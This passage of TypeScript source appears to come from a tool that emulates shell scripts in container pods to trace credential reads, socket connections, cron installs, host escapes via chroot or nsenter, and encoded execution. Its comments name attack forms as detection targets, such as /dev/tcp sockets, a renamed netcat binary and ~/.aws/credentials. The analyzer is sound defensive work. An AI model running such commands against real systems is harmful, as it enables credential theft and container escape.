      const socket = this.openSocket(stream, proc, `${by} < ${path}`);
      return socket.kind === 'socket'
        ? unknown(`«${socket.url}»`, [{ kind: 'network', url: socket.url }])
        : EMPTY;
    }
    const resolved = this.resolvePath(path, proc);
    const entry = this.fileAt(resolved);
    const credential = this.credentialAt(resolved) ?? credentialOfPath(path, this.pod.mounts);
    const node = this.nodePath(path, proc);
    this.action({
      type: 'read',
      path: proc.path,
      loop: proc.loop,
      detail: short(`${by} ${path}`),
      file: literal(path),
      ...(node === undefined ? {} : { node }),
    });
    if (entry !== undefined)
      return credential === undefined ? entry.content : withOrigins(entry.content, [credential]);
    return unknown(`«${path}»`, credential === undefined ? [] : [credential]);
  }

  /** A directory (or file) packed or copied whole: it holds any credential file under it. */
  readTree(path: string, proc: Proc, by: string): Value {
    const content = this.readFile(path, proc, by);
    if (content.origins.some((o) => o.kind === 'credential')) return content;
    const resolved = this.resolvePath(path, proc);
    const root = resolved === '.' ? '' : resolved;
    for (const file of CREDENTIAL_FILES) {
      const probe = file.startsWith(`${root}/`) ? file : `${root}${file}`;
      const credential = this.credentialAt(probe);
      if (credential !== undefined) return withOrigins(content, [{ ...credential, source: path }]);
    }
    return content;
  }

  /** The credential a file holds: by its path, the pod's credential mounts, or the host path behind a hostPath mount. */
  credentialAt(path: string): Extract<Origin, { kind: 'credential' }> | undefined {
    const direct = credentialOfPath(path, this.pod.mounts);
    if (direct !== undefined) return direct;
    for (const mount of this.pod.hostMounts) {
      if (path === mount.mountPath || path.startsWith(`${mount.mountPath}/`)) {
        const hostPath = canonicalPath(`${mount.hostPath}/${path.slice(mount.mountPath.length)}`);
        const behind = credentialOfPath(hostPath);
        if (behind !== undefined) return { ...behind, source: path };
      }
    }
    return undefined;
  }

  /** The node path behind a container path: a hostPath mount, also after `chroot` into one. */
  nodePath(path: string, proc: Proc): string | undefined {
    const resolved = this.resolvePath(path, proc);
    const full = proc.root === undefined ? resolved : canonicalPath(`${proc.root}/${resolved}`);
    for (const mount of this.pod.hostMounts) {
      if (full === mount.mountPath || full.startsWith(`${mount.mountPath}/`)) {
        return canonicalPath(`${mount.hostPath}/${full.slice(mount.mountPath.length)}`);
      }
    }
    return undefined;
  }

  fileAt(path: string): FileEntry | undefined {
    const exact = this.pod.files.get(path);
    if (exact !== undefined) return exact;
    for (const [dir, entry] of this.pod.files) {
      if (entry.tree === true && (path.startsWith(`${dir}/`) || dir === '.')) return entry;
    }
    return undefined;
  }

  resolvePath(written: string, proc: Proc): string {
    // `~/.aws/credentials`: the shell's tilde expansion, to $HOME (root's home unless the script set it).
    const path =
      written === '~' || written.startsWith('~/')
        ? `${this.param('HOME', proc).text}${written.slice(1)}`
        : written;
    if (path.startsWith('/')) return canonicalPath(path);
    if (proc.cwd !== undefined) return canonicalPath(`${proc.cwd}/${path}`);
    return canonicalPath(path).replace(/^\/+/, '').replace(/^\.\//, '') || '.';
  }

  redirect(redirects: readonly Redirect[], proc: Proc, stdin: Value | undefined): Io {
    // Without redirections the command shares its process's (read-only) descriptor map.
    if (redirects.length === 0) return { stdin, fds: proc.fds, redirects: [] };
    const fds = new Map(proc.fds);
    const io: Io = { stdin, fds, redirects: [] };
    for (const redirect of redirects) {
      const target = concat(this.expandWord(redirect.target, proc, false).map((f) => f.value));
      const op = redirect.op;
      if (op === '<<' || op === '<<-' || op === '<<<') {
        io.stdin = op === '<<<' ? concat([target, literal('\n')]) : target;
        fds.delete(redirect.fd ?? 0);
        continue;
      }
      io.redirects.push({
        op,
        target: short(target.text, 200),
        ...(redirect.fd === undefined ? {} : { fd: redirect.fd }),
      });
      const text = target.text;
      if (op === '<&' || op === '>&') {
        const fd = redirect.fd ?? (op === '<&' ? 0 : 1);
        if (text === '-') {
          fds.set(fd, { kind: 'closed' });
          continue;
        }
        if (/^\d+$/.test(text)) {
          const source = fds.get(Number(text));
          if (source !== undefined) fds.set(fd, source);
          else fds.delete(fd);
          if (fd === 0 && source?.kind === 'file') io.stdin = this.readFile(source.path, proc, 'redirect');
          continue;
        }
        // `>& file` is `> file 2>&1`.
      }
      const socket = isSocketPath(text);
      const inFd = redirect.fd ?? 0;
      const outFd = redirect.fd ?? 1;
      if (socket !== null) {
        const stream = this.openSocket(socket, proc, `${op}${text}`, target.origins);
        if (op === '<') fds.set(inFd, stream);
        else if (op === '<>') fds.set(inFd, stream);
        else if (op === '&>' || op === '&>>' || (op === '>&' && redirect.fd === undefined)) {
          fds.set(1, stream);
          fds.set(2, stream);
        } else fds.set(outFd, stream);
        continue;
      }
      if (op === '<') {
        io.stdin = this.readFile(text, proc, 'redirect');
        fds.delete(inFd);
        if (inFd !== 0) fds.set(inFd, { kind: 'file', path: text });
      } else if (op === '<>') {
        fds.set(inFd, { kind: 'file', path: text });
      } else {
        const fd = op === '&>' || op === '&>>' || op === '>&' ? 1 : outFd;
        if (fd === 1) io.outFile = { path: text, append: op.endsWith('>>') };
        fds.set(fd, { kind: 'file', path: text });
        if (op === '&>' || op === '&>>' || op === '>&') fds.set(2, { kind: 'file', path: text });
      }
    }
    return io;
  }

  /** Sends a command's output where its fd 1 points: a file, a socket, or back to the caller. */
  deliver(output: Value, io: Io, proc: Proc, by: string): Value {
    const out = io.fds.get(1);
    if (out?.kind === 'socket') {
      this.flow(output, 'send', by, proc, { destination: out.url });
      return EMPTY;
    }
    if (out?.kind === 'closed') return EMPTY;
    if (io.outFile !== undefined) {
      const path = io.outFile.path;
      if (path === '/dev/null' || path === '/dev/stdout' || path === '/dev/stderr')
        return path === '/dev/null' ? EMPTY : output;
      this.writeFile(path, output, proc, by, io.outFile.append);
      return EMPTY;
    }
    return output;
  }

  writeFile(
    path: string,
    content: Value,
    proc: Proc,
    by: string,
    append = false,
    steps: string[] = [],
  ): void {
    const resolved = this.resolvePath(path, proc);
    const before = this.pod.files.get(resolved);
    if (before?.fifo === true) {
      this.fifoWritten = this.fifoWritten || content.origins.length > 0;
      before.content = concat([before.content, content]);
      return;
    }
    const merged = append && before !== undefined ? concat([before.content, content]) : content;
    this.pod.files.set(resolved, {
      content: merged,
      executable: before?.executable ?? false,
      steps: steps.length > 0 ? steps : (before?.steps ?? []),
    });
    const node = this.nodePath(path, proc);
    this.action({
      type: 'write',
      path: proc.path,
      loop: proc.loop,
      detail: short(`${by} > ${path}`),
      file: literal(path),
      content,
      ...(node === undefined ? {} : { node }),
    });
    const table = cronTableAt(proc.root === undefined ? resolved : canonicalPath(`${proc.root}/${resolved}`));
    if (table !== undefined) this.cronTable(content, table, proc);
  }

  /**
   * A cron table installed (a file under /etc/cron*, /var/spool/cron, `crontab FILE`, `crontab -`):
   * cron runs each entry's command with `sh -c` later, so its content is code that runs — in the
   * container when a cron daemon runs there, on the node when the table is a host file.
   */
  cronTable(content: Value, table: CronTable, proc: Proc): void {
    this.flow(content, 'exec', 'cron', proc, { steps: ['installs a cron table'] });
    if (content.text.trim() === '') return;
    this.deeper(proc);
    const inner = this.child(proc);
    if (table === 'script') {
      this.runText(content, inner, undefined);
      return;
    }
    for (const line of content.text.split('\n')) {
      const command = cronCommand(line, table === 'system');
      if (command !== undefined) this.runText({ ...content, text: command }, inner, undefined);
    }
  }

  // ---------------------------------------------------------------- simple commands

  runSimple(command: SimpleCommand, proc: Proc, stdin: Value | undefined): Value {
    const fields = this.expandWords(command.words, proc);
    const assignments = command.assignments.map((a) => ({
      name: a.name,
      value:
        a.array === undefined
          ? concat(this.expandWord(a.value, proc, false).map((f) => f.value))
          : concat(
              a.array.flatMap((w) => this.expandWord(w, proc).map((f) => f.value)),
              ' ',
            ),
      append: a.append,
    }));
    const io = this.redirect(command.redirects, proc, stdin);
    if (fields.length === 0) {
      for (const a of assignments) {
        const before = proc.vars.get(a.name);
        proc.vars.set(a.name, a.append && before !== undefined ? concat([before, a.value]) : a.value);
      }
      // A bare redirection (`> file`, `exec` handled below) still opens its targets.
      return EMPTY;
    }
    const local =
      assignments.length === 0 ? proc : { ...proc, vars: proc.vars.fork(), exported: proc.exported.fork() };
    for (const a of assignments) {
      local.vars.set(a.name, a.value);
      local.exported.add(a.name);
    }
    const pending = this.pendingWriters.splice(0);
    const output = this.invoke(fields, local, io, command.offset);
    for (const writer of pending) {
      const reader = { ...writer.proc, depth: writer.proc.depth + 1 };
      this.runScript(writer.script, reader, output.origins.length > 0 ? output : io.stdin);
    }
    return this.deliver(output, io, proc, fields[0]?.value.text ?? '');
  }

  /** Runs argv: a function, a builtin, a launcher, a shell, an interpreter or a program. */
  invoke(
    fields: Field[],
    proc: Proc,
    io: Io,
    offset: number,
    launchers: readonly string[] = proc.launchers,
  ): Value {
    const head = fields[0];
    if (head === undefined) return EMPTY;
    const name = head.value.text;
    this.charge(8);
    // Aliases (literal words only).
    const alias = proc.aliases.get(name);
    if (alias !== undefined && !proc.active.has(`alias ${name}`)) {
      proc.active.add(`alias ${name}`);
      const text = [alias, ...fields.slice(1).map((f) => shellQuote(f.value.text))].join(' ');
      const out = this.runText(literal(text), proc, io.stdin);
      proc.active.delete(`alias ${name}`);
      return out;
    }
    const fn = proc.functions.get(name);
    if (fn !== undefined && !name.includes('/')) {
      if (proc.active.has(name)) return EMPTY; // recursion: once is enough to see what it does
      this.deeper(proc);
      const inner: Proc = {
        ...proc,
        positional: fields.slice(1).map((f) => f.value),
        depth: proc.depth + 1,
        fds: io.fds,
        active: new Set([...proc.active, name]),
      };
      return this.runCommand(fn, inner, io.stdin);
    }
    const builtin = this.builtin(name, fields, proc, io, offset);
    if (builtin !== undefined) return builtin;
    return this.program(fields, proc, io, launchers);
  }

  record(fields: Field[], proc: Proc, io: Io, launchers: readonly string[], program: string): Invocation {
    if (this.rec.invocations.length >= EXECUTION_LIMITS.maxInvocations) {
      this.rec.limit(`over ${EXECUTION_LIMITS.maxInvocations} programs`);
      throw new LimitReached();
    }
    const head = fields[0];
    const obfuscatedName =
      head !== undefined &&
      (head.split ||
        head.escaped ||
        head.expansions > 1 ||
        (head.expansions > 0 && head.value.origins.some((o) => o.kind === 'decoded')));
    if (head !== undefined && obfuscatedName) {
      this.sign(
        head.split ? 'split-name' : head.escaped ? 'escaped-text' : 'computed-name',
        head.value.text,
        proc,
      );
    }
    const argv = fields.map((f) => f.value);
    const words = fields.map((f) => f.value.text);
    // Most programs have neither a known stdin nor a `cd`: one literal, no spreads (same key order).
    const invocation: Invocation =
      io.stdin === undefined && proc.cwd === undefined
        ? {
            program,
            argv,
            words,
            launchers: [...launchers],
            redirects: io.redirects,
            path: proc.path,
            loop: proc.loop,
            depth: proc.depth,
            site: proc.site,
            obfuscatedName,
          }
        : {
            program,
            argv,
            words,
            launchers: [...launchers],
            redirects: io.redirects,
            ...(io.stdin === undefined ? {} : { stdin: io.stdin }),
            ...(proc.cwd === undefined ? {} : { cwd: proc.cwd }),
            path: proc.path,
            loop: proc.loop,
            depth: proc.depth,
            site: proc.site,
            obfuscatedName,
          };
    this.rec.invocations.push(invocation);
    return invocation;
  }

  /** Shell builtins that change the shell's own state; undefined when `name` is not one. */
  builtin(name: string, fields: Field[], proc: Proc, io: Io, offset: number): Value | undefined {
    if (!BUILTINS.has(name)) return undefined;
    const args = fields.slice(1).map((f) => f.value);
    switch (name) {
      case 'cd': {
        const target = args[0];
        if (target === undefined) proc.cwd = '/root';
        else if (target.exact) proc.cwd = this.resolvePath(target.text, proc);
        else proc.cwd = undefined;
        return EMPTY;
      }
      case 'export':
      case 'declare':
      case 'typeset':
      case 'local':
      case 'readonly': {
        for (const arg of args) {
          if (arg.text.startsWith('-')) continue;
          const eq = arg.text.indexOf('=');
          const varName = eq < 0 ? arg.text : arg.text.slice(0, eq);
          if (!/^[A-Za-z_]\w*$/.test(varName)) continue;
          if (eq >= 0)
            proc.vars.set(
              varName,
              withOrigins(
                arg.exact ? literal(arg.text.slice(eq + 1)) : unknown(arg.text.slice(eq + 1)),
                arg.origins,
              ),
            );
          if (name === 'export') proc.exported.add(varName);
        }
        return EMPTY;
      }
      case 'unset':
        for (const arg of args) proc.vars.delete(arg.text);
        return EMPTY;
      case 'read': {
        const names = args.filter((a) => !a.text.startsWith('-')).map((a) => a.text);
        const input = io.fds.get(0);
        const source =
          input?.kind === 'socket'
            ? unknown(`«${input.url}»`, [{ kind: 'network', url: input.url }])
            : (io.stdin ?? unknown('«stdin»', [{ kind: 'stdin' }]));
        const targets = names.length === 0 ? ['REPLY'] : names;
        const origins: readonly Origin[] = proc.loop
          ? mergeOrigins(source.origins, [{ kind: 'loop', variable: targets[0] ?? 'REPLY' }])
          : source.origins;
        for (const target of targets) proc.vars.set(target, unknown(`$${target}`, origins));
        return EMPTY;
      }
      case 'eval': {
        const code = concat(args, ' ');
        this.deeper(proc);
        this.record(fields, proc, io, proc.launchers, 'eval');
        if (fields.slice(1).some((f) => f.expansions > 0) && code.origins.length > 0)
          this.sign('eval-computed', code.text, proc);
        this.flow(code, 'exec', 'eval', proc);
        return this.runText(code, { ...proc, depth: proc.depth + 1, fds: io.fds }, io.stdin);
      }
      case 'source':
      case '.': {
        const file = args[0];
        if (file === undefined) return EMPTY;
        this.record(fields, proc, io, proc.launchers, name);
        // `… | . /dev/stdin`: the file is the pipe.
        const content = STDIN_FILE.test(file.text)
          ? (this.stdinOf(io) ?? EMPTY)
          : this.readFile(file.text, proc, name);
        const entry = this.fileAt(this.resolvePath(file.text, proc));
        this.flow(content, 'exec', name, proc, { steps: entry?.steps ?? [] });
        this.deeper(proc);
        const inner = {
          ...proc,
          depth: proc.depth + 1,
          positional: args.slice(1).length > 0 ? args.slice(1) : proc.positional,
        };
        return content.text === '' ? EMPTY : this.runText(content, inner, io.stdin);
      }
      case 'exec': {
        if (fields.length === 1) {
          // `exec 5<>/dev/tcp/h/p`, `exec >&5`: the shell's own descriptors change.
          proc.fds = io.fds;
          return EMPTY;
        }
        return this.invoke(
          fields.slice(1).filter((f, k) => !(k === 0 && f.value.text === '-a')),
          { ...proc, fds: io.fds },
          io,
          offset,
        );
      }
      case 'set': {
        const dashdash = args.findIndex((a) => a.text === '--');
        if (dashdash >= 0) proc.positional = args.slice(dashdash + 1);
        else if (args.length > 0 && !args[0]?.text.startsWith('-') && !args[0]?.text.startsWith('+'))
          proc.positional = args;
        return EMPTY;
      }
      case 'shift': {
        const n = Number(args[0]?.text ?? '1');
        proc.positional = proc.positional.slice(Number.isFinite(n) ? n : 1);
        return EMPTY;
      }
      case 'alias': {
        for (const arg of args) {
          const eq = arg.text.indexOf('=');
          if (eq > 0) proc.aliases.set(arg.text.slice(0, eq), arg.text.slice(eq + 1));
        }
        return EMPTY;
      }
      case 'trap': {
        const code = args[0];
        if (code !== undefined && args.length > 1) {
          this.deeper(proc);
          return this.runText(code, { ...proc, depth: proc.depth + 1 }, undefined);
        }
        return EMPTY;
      }
      case 'echo': {
        this.record(fields, proc, io, proc.launchers, 'echo');
        const rest = args.slice();
        let escapes = false;
        let newline = true;
        while (rest[0] !== undefined && /^-[neE]+$/.test(rest[0].text)) {
          const flag = rest.shift()?.text ?? '';
          if (flag.includes('e')) escapes = true;
          if (flag.includes('n')) newline = false;
        }
        const text = concat(rest, ' ');
        const shown = escapes && text.exact ? this.escaped(text, 'echo', proc) : text;
        return newline ? concat([shown, literal('\n')]) : shown;
      }
      case 'printf': {
        this.record(fields, proc, io, proc.launchers, 'printf');
        const rest = args.slice();
        if (rest[0]?.text === '-v') {
          rest.shift();
          const target = rest.shift();
          const value = this.printf(rest, proc);
          if (target !== undefined) proc.vars.set(target.text, value);
          return EMPTY;
        }
        return this.printf(rest, proc);
      }
      case 'command':
      case 'builtin': {
        if (args[0]?.text === '-v' || args[0]?.text === '-V') return programPath(args[1]?.text ?? '');
        return this.invoke(
          fields.slice(1).filter((f) => !/^-[pvV]$/.test(f.value.text)),
          proc,
          io,
          offset,
        );
      }
      case 'time':
        return this.invoke(
          fields.slice(1).filter((f) => f.value.text !== '-p'),
          proc,
          io,
          offset,
        );
    }
    if (QUIET_BUILTINS.has(name)) return EMPTY;
    return undefined;
  }

  escaped(text: Value, style: 'echo' | 'printf', _proc: Proc): Value {
    const decodedText = decodeEscapes(text.text, style);
    if (decodedText === text.text) return text;
    if (/\\(?:x[0-9a-f]{2}|[0-7]{3}|0[0-7]{2,3})/i.test(text.text)) {
      return {
        text: decodedText,
        exact: true,
        origins: mergeOrigins(text.origins, [{ kind: 'decoded', encoding: 'escapes' }]),
      };
    }
    return literal(decodedText);
  }

  printf(args: Value[], proc: Proc): Value {
    const format = args[0];
    if (format === undefined) return EMPTY;
    if (!format.exact) return concat(args, ' ');
    const values = args.slice(1);
    let k = 0;
    let exact = true;
    let origins: readonly Origin[] = format.origins;
    const formatted = format.text.replace(
      /%([-+ #0]*\d*(?:\.\d+)?)([sbdiouxXcfegEG%])/g,
      (_m, _flags: string, conv: string) => {
        if (conv === '%') return '%';
        const value = values[k++];
        if (value === undefined) return '';
        if (!value.exact) exact = false;
        origins = mergeOrigins(origins, value.origins);
        if (conv === 'b') return decodeEscapes(value.text, 'echo');
        if (conv === 'c') return value.text.charAt(0);
        if ('diouxX'.includes(conv)) {
          const n = Number(value.text.startsWith("'") ? value.text.charCodeAt(1) : value.text);
          if (!Number.isFinite(n)) return value.text;
          return conv === 'x'
            ? n.toString(16)
            : conv === 'X'
              ? n.toString(16).toUpperCase()
              : conv === 'o'
                ? n.toString(8)
                : String(Math.trunc(n));
        }
        return value.text;
      },
    );
    const result = { text: formatted, exact, origins };
    return this.escaped(result, 'printf', proc);
  }

  // ---------------------------------------------------------------- programs

  program(fields: Field[], proc: Proc, io: Io, launchers: readonly string[]): Value {
    const head = fields[0];
    if (head === undefined) return EMPTY;
    const written = head.value.text;
    const name = basename(written);
    // A program of the image copied under another name runs as itself.
    const copied = this.copiedProgram(written, proc);
    if (copied !== undefined && copied !== name)
      return this.program([{ ...head, value: literal(copied) }, ...fields.slice(1)], proc, io, launchers);
    // Busybox applets: `busybox wget …`.
    if (MULTICALL.has(name) && fields.length > 1) {
      this.record(fields, proc, io, launchers, name);
      return this.invoke(fields.slice(1), proc, io, 0, [...launchers, name]);
    }
    const launcher = LAUNCHERS.get(name);
    if (launcher !== undefined && fields.length > 1) {
      this.record(fields, proc, io, launchers, name);
      const words = fields.map((f) => f.value.text);
      const valued =
        launcher.shellOptions === undefined
          ? launcher.valued
          : new Set([...launcher.valued, ...launcher.shellOptions]);
      const parsed = readOptions(words.slice(1), valued, { permute: launcher.shellOptions !== undefined });
      const start = parsed.operands[0]?.index;
      // Shell-string options (`su -c 'CMD'`): the value is a script.
      if (launcher.shellOptions !== undefined) {
        for (const option of parsed.options) {
          if (launcher.shellOptions.has(option.name) && option.value !== undefined) {
            const script = fields[option.index]?.value ?? literal(option.value);
            return this.shellString(script, proc, io, [...launchers, name], name);
          }
        }
      }
      // `env -S 'CMD ARGS…' MORE…`: the option's value and the operands after it are one command line.
      const split =
        name === 'env'
          ? parsed.options.find((o) => o.name === '-S' || o.name === '--split-string')
          : undefined;
      if (split?.value !== undefined) {
        const given = fields[split.index]?.value;
        const script = concat(
          [
            given?.text === split.value ? given : literal(split.value),
            ...fields.slice(start ?? fields.length).map((f) => f.value),
          ],
          ' ',
        );
        return this.shellString(script, proc, io, [...launchers, name], name);
      }
      if (start === undefined) return EMPTY;
      const inner = fields.slice(start);
      const env =
        launcher.assignments === true
          ? { ...proc, vars: proc.vars.fork(), exported: proc.exported.fork() }
          : proc;
      let k = 0;
      if (launcher.assignments === true) {
        while (k < inner.length && /^[A-Za-z_]\w*=/.test(inner[k]?.value.text ?? '')) {
          const text = inner[k]?.value.text ?? '';
          const eq = text.indexOf('=');
          env.vars.set(text.slice(0, eq), literal(text.slice(eq + 1)));
          env.exported.add(text.slice(0, eq));
          k++;
        }
      }
      const operandsKept = inner.slice(k, k + launcher.operands).map((f) => f.value.text);
      // The launcher as written up to its program: `nsenter -t 1 -m -u -i -n`, `chroot /host`, `nice -n 19`.
      const described = [name, ...words.slice(1, start + k + launcher.operands)].join(' ');
      const rest = inner.slice(k + launcher.operands);
      if (name === 'chroot') {
        // `chroot /host CMD`: CMD runs from the host's file system; with no CMD, the host's shell.
        const root = operandsKept[0] === undefined ? undefined : this.resolvePath(operandsKept[0], proc);
        const jailed: Proc = root === undefined ? env : { ...env, root, cwd: undefined };
        return rest.length === 0 ? EMPTY : this.invoke(rest, jailed, io, 0, [...launchers, described]);
      }
      // `watch CMD…` runs its words as one shell string.
      if (name === 'watch') {
        const script = concat(
          rest.map((f) => f.value),
          ' ',
        );
        return this.shellString(script, env, io, [...launchers, described], name);
      }
      return this.invoke(rest, env, io, 0, [...launchers, described]);
    }
    if (name === 'xargs') return this.xargs(fields, proc, io, launchers);
    if (name === 'find') return this.find(fields, proc, io, launchers);
    const language = languageOf(name);
    if (language === 'shell') return this.shell(fields, proc, io, launchers, name);
    if (language !== undefined) return this.interpreter(language, fields, proc, io, launchers, name);
    const invocation = this.record(fields, proc, io, launchers, name);
    return this.tool(name, fields, proc, io, invocation, launchers);
  }

  /** The image program a file the pod copied is (`cp /usr/bin/nc /tmp/kworker`; `/tmp/kworker` → `nc`). */
  copiedProgram(written: string, proc: Proc): string | undefined {
    if (this.pod.files.size === 0) return undefined;
    const candidates = written.includes('/')
      ? [this.resolvePath(written, proc)]
      : pathDirs(proc).map((dir) => canonicalPath(`${dir}/${written}`));
    for (const candidate of candidates) {
      const program = this.pod.files.get(candidate)?.program;
      if (program !== undefined) return program;
    }
    return undefined;
  }

  /** `sh -c STRING` as run by a launcher or a program (`su -c`, `watch`, `find -exec sh -c`). */
  shellString(script: Value, proc: Proc, io: Io, launchers: readonly string[], by: string): Value {
    this.deeper(proc);
    this.flow(script, 'exec', by, proc);
    const inner = this.child(proc);
    inner.launchers = [...launchers];
    inner.fds = io.fds;
    return this.runText(script, inner, io.stdin);
  }

  /** The streams of a process whose stdin is a socket: a shell or interpreter driven from the network. */
  joinSockets(io: Io, proc: Proc, by: string, words: readonly string[]): void {
    const input = io.fds.get(0);
    if (input?.kind !== 'socket') return;
    const fds = [0, 1, 2].filter((fd) => {
      const s = io.fds.get(fd);
      return s?.kind === 'socket' && s.socket === input.socket;
    });
    this.action<StdioAction>({
      type: 'stdio',
      path: proc.path,
      loop: proc.loop,
      detail: short(words.join(' ')),
      socket: input.socket,
      fds,
    });
    this.flowFrom({ kind: 'network', url: input.url }, 'exec', by, proc);
  }

  stdinOf(io: Io): Value | undefined {
    const input = io.fds.get(0);
    if (input?.kind === 'socket') return unknown(`«${input.url}»`, [{ kind: 'network', url: input.url }]);
    return io.stdin;
  }

  shell(fields: Field[], proc: Proc, io: Io, launchers: readonly string[], name: string): Value {
    this.record(fields, proc, io, launchers, name);
    const words = fields.map((f) => f.value.text);
    this.joinSockets(io, proc, name, words);
    // Options: `-c` takes the first operand as the script; `-s`/none reads stdin; else a file.
    let command = false;
    let fromStdin = false;
    let k = 1;
    for (; k < words.length; k++) {
      const word = words[k] ?? '';
      if (word === '--' || word === '-') {
        k++;
        break;
      }
      if (!/^[-+]/.test(word)) break;
      if (SHELL_VALUED.has(word)) {
        k++;
        continue;
      }
      if (word.startsWith('--')) continue;
      if (/^-[a-zA-Z]*c/.test(word)) command = true;
      if (/^-[a-zA-Z]*s/.test(word)) fromStdin = true;
    }
    const operands = fields.slice(k).map((f) => f.value);
    this.deeper(proc);
    const inner = this.child(proc);
    inner.launchers = [...launchers];
    inner.fds = io.fds;
    const stdin = this.stdinOf(io);
    if (command) {
      const script = operands[0] ?? EMPTY;
      // What the script does is found in the manifest field that holds it.
      const scriptPath = fields[k]?.path;
      if (scriptPath !== undefined) inner.path = scriptPath;
      inner.arg0 = operands[1] ?? literal(name);
      inner.positional = operands.slice(2);
      this.flow(script, 'exec', name, proc);
      if (
        fields[k] !== undefined &&
        (fields[k]?.expansions ?? 0) > 0 &&
        script.origins.some((o) => o.kind === 'decoded')
      ) {
        this.sign('decode-to-exec', script.text, proc);
      }
      return this.runText(script, inner, stdin);
    }
    const file = fromStdin ? undefined : operands[0];
    if (fromStdin) inner.positional = operands;
    if (file !== undefined) {
      inner.arg0 = file;
      inner.positional = operands.slice(1);
      const content = STDIN_FILE.test(file.text) ? (stdin ?? EMPTY) : this.readFile(file.text, proc, name);
      const entry = this.fileAt(this.resolvePath(file.text, proc));
      this.flow(content, 'exec', name, proc, { steps: [...(entry?.steps ?? []), `runs ${file.text}`] });
      return content.text === '' ? EMPTY : this.runText(content, inner, stdin);
    }
    // The script is read from stdin.
    if (stdin === undefined) return EMPTY;
    this.flow(stdin, 'exec', name, proc, { steps: [] });

    return this.runText(stdin, inner, undefined);
  }

  interpreter(
    language: Exclude<Language, 'shell'>,
    fields: Field[],
    proc: Proc,
    io: Io,
    launchers: readonly string[],
    name: string,
  ): Value {
    this.record(fields, proc, io, launchers, name);
    const words = fields.map((f) => f.value.text);
    this.joinSockets(io, proc, name, words);
    const spec = INTERPRETERS[language];
    const stdin = this.stdinOf(io);
    let code: Value | undefined;
    let args: Value[] = [];
    let steps: readonly string[] = [];
    let fromStdin = false;
    let codePath: string | undefined;
    if (language === 'awk') {
      // awk PROGRAM FILE… | awk -f FILE: the first operand is the program text.
      const parsed = readOptions(words.slice(1), spec.valued);
      const file = optionValues(parsed, '-f')[0];
      if (file !== undefined) code = this.readFile(file, proc, name);
      else {
        const first = parsed.operands[0];
        if (first !== undefined) code = fields[first.index]?.value;
      }
    } else {
      for (let k = 1; k < fields.length; k++) {
        const word = words[k] ?? '';
        const lower = language === 'powershell' ? word.toLowerCase() : word;
        if (spec.code.has(lower)) {
          code = fields[k + 1]?.value;
          codePath = fields[k + 1]?.path;
          if (
            language === 'powershell' &&
            lower.startsWith('-e') &&
            lower !== '-executionpolicy' &&
            code !== undefined
          ) {
            const decodedText = code.exact ? Buffer.from(code.text, 'base64').toString('utf16le') : undefined;
            code = {
              text: decodedText ?? code.text,
              exact: decodedText !== undefined,
              origins: mergeOrigins(code.origins, [{ kind: 'decoded', encoding: 'base64' }]),
            };
            this.sign('decode-to-exec', 'powershell -EncodedCommand', proc);
          }
          args = fields.slice(k + 2).map((f) => f.value);
          break;
        }
        // `python -c'code'`, `perl -e'code'` attached.
        const attached = [...spec.code].find(
          (opt) => opt.length === 2 && lower.startsWith(opt) && lower.length > 2 && !spec.valued.has(lower),
        );
        if (attached !== undefined && !lower.startsWith('--')) {
          const value = fields[k]?.value ?? EMPTY;
          code = { ...value, text: value.text.slice(2) };
          args = fields.slice(k + 1).map((f) => f.value);
          break;
        }
        if (spec.module !== undefined && word === spec.module) {
          args = fields.slice(k + 1).map((f) => f.value);
          return this.pythonModule(args, proc);
        }
        if (spec.valued.has(lower)) {
          k++;
          continue;
        }
        if (word === '-') {
          fromStdin = true;
          args = fields.slice(k + 1).map((f) => f.value);
          break;
        }
        if (word.startsWith('-')) continue;
        // A script file (`/dev/stdin` is the pipe).
        const content = STDIN_FILE.test(word) ? (this.stdinOf(io) ?? EMPTY) : this.readFile(word, proc, name);
        const entry = this.fileAt(this.resolvePath(word, proc));
        steps = [...(entry?.steps ?? []), `runs ${word}`];
        code = content;
        args = fields.slice(k + 1).map((f) => f.value);
        break;
      }
      if (code === undefined && !fromStdin && stdin !== undefined) fromStdin = true;
    }
    if (fromStdin && stdin !== undefined) code = stdin;
    if (code === undefined) return unknown(`$(${name})`, stdin?.origins ?? []);
    this.flow(code, 'exec', name, proc, { steps });
    const at = codePath === undefined ? proc : { ...proc, path: codePath };
    return this.code(language, code, args, fromStdin ? undefined : stdin, at, io, name);
  }

  /** `python -m pip install URL`, `python -m http.server`: the module's own behaviour. */
  pythonModule(args: Value[], proc: Proc): Value {
    const words = args.map((a) => a.text);
    if (words[0] === 'pip' || words[0] === 'pip3') return this.packageInstall('pip', words.slice(1), proc);
    if (words[0] === 'http.server' || words[0] === 'SimpleHTTPServer') {
      this.action({
        type: 'listen',
        path: proc.path,
        loop: proc.loop,
        detail: `python -m ${words[0]}`,
        socket: this.rec.nextSocket++,
        port: literal(words[1] ?? '8000'),
      });
    }

    return EMPTY;
  }

  /** Inline code of an interpreter: its actions join the container's, its processes run here. */
  code(
    language: Exclude<Language, 'shell'>,
    code: Value,
    args: Value[],
    stdin: Value | undefined,
    proc: Proc,
    io: Io,
    by: string,
  ): Value {
    const analyze = this.pod.analyze;
    if (analyze === undefined) return unknown(`$(${by})`);
    this.deeper(proc);
    const env = new Map<string, Value>();
    for (const nameOf of proc.exported) {
      const value = proc.vars.get(nameOf);
      if (value !== undefined) env.set(nameOf, value);
    }
    const context: CodeContext = {
      path: proc.path,
      env,
      args,
      budget: this.pod.budget,
      ...(stdin === undefined ? {} : { stdin }),
      ...(this.pod.files.size === 0
        ? {}
        : {
            file: (path: string) => {
              const entry = this.fileAt(this.resolvePath(path, proc));
              return entry === undefined || entry.fifo === true ? undefined : entry.content;
            },
          }),
    };
    let analysis: CodeAnalysis;
    try {
      analysis = analyze(language, code.text, context);
    } catch (error) {
      this.rec.limit(
        `${language} analysis failed: ${error instanceof Error ? error.message : String(error)}`,
      );
      return unknown(`$(${by})`);
    }
    for (const limit of analysis.limits) this.rec.limit(`${language}: ${limit}`);
    for (const note of analysis.obfuscation) this.sign('escaped-text', `${language}: ${note}`, proc);
    if (this.pod.budget.left < 0) throw new LimitReached();
    const inner: Proc = { ...this.child(proc), fds: io.fds };
    // Socket ids are local to the analysis: renumber into this container's.
    const sockets = new Map<number, number>();
    const socketOf = (local: number): number => {
      let id = sockets.get(local);
      if (id === undefined) {
        id = this.rec.nextSocket++;
        sockets.set(local, id);
      }
      return id;
    };
    const urls = new Map<number, string>();
    const runIndex = new Map<number, number>();
    // Credentials the code read: what it sends without the model knowing the text may carry them.
    const read: Origin[] = [];
    const droppedFiles: { path: string; entry: FileEntry }[] = [];
